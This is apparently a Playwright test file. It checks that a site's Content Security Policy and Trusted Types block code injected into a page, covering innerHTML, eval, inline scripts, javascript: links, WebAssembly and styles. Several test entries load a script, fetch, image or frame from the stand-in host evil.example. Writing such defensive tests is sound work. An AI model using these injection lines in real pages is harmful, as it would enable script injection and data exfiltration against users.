import { expect, test } from './fixtures.ts';

/** What code that got into a page would do first. Each has to throw, or to report a violation of this directive. */
const ATTEMPTS: readonly (readonly [string, string, string])[] = [
  ['markup', 'document.body.innerHTML = "<b>in</b>"', 'require-trusted-types-for'],
  [
    'markup beside',
    'document.body.insertAdjacentHTML("beforeend", "<b>in</b>")',
    'require-trusted-types-for',
  ],
  ['eval', 'eval("1")', 'require-trusted-types-for'],
  ['a function from text', 'new Function("return 1")()', 'require-trusted-types-for'],
  [
    'an inline script',
    'document.head.append(Object.assign(document.createElement("script"), { text: "1" }))',
    'require-trusted-types-for',
  ],
  [
    'a script from elsewhere',
    'document.head.append(Object.assign(document.createElement("script"), { src: "https://evil.example/a.js" }))',
    'require-trusted-types-for',
  ],
  ['a policy of its own', 'trustedTypes.createPolicy("other", {})', 'trusted-types'],
  [
    'a link of script',
    'document.body.append(Object.assign(document.createElement("a"), { id: "bad", href: "javascript:document.title=1" })); bad.click()',
    'script-src-elem',
  ],
  ['a message to elsewhere', 'fetch("https://evil.example/").catch(() => {})', 'connect-src'],
  ['a picture from elsewhere', 'new Image().src = "https://evil.example/a.png"', 'img-src'],
  ['WebAssembly', 'new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))', 'script-src'],
  ['a style of an element', 'document.body.setAttribute("style", "color: red")', 'style-src-attr'],
  [
    'a style sheet',
    'document.head.append(Object.assign(document.createElement("style"), { textContent: "*{color:red}" }))',
    'style-src-elem',
  ],
  [
    'a frame',
    'document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" }))',
    'frame-src',
  ],
];

test('X1: code that got into a page can do nothing with it', async ({ browser, product }) => {
  const context = await browser.newContext({ baseURL: product.origin });
  try {
    const page = await context.newPage();
    const violations = new Set<string>();
    await page.exposeFunction('report', (directive: string) => violations.add(directive));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        Reflect.get(window, 'report')(effectiveDirective),
      );
    });
    for (const [name, code, directive] of ATTEMPTS) {
      await page.goto('/');
      violations.clear();
      // A debugger may do what a page may not; what a timer runs is the page's own.
      await page.evaluate(`void setTimeout(() => { ${code} })`);
      await expect.poll(() => [name, ...violations]).toContain(directive);
      expect(await page.title()).not.toBe('1');
    }
  } finally {
    await context.close();
  }
});
